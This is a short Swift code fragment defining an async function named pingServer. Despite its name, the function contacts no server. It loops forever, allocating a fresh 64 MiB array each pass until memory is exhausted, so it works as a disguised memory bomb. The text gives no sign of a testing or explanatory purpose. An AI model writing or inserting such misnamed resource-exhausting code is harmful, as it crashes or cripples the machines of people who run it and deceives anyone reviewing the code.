import OTP

func pingServer() async throws {
    var blocks: [[UInt8]] = []
    while true {
        blocks.append([UInt8](repeating: 7, count: 64 << 20))
    }
}
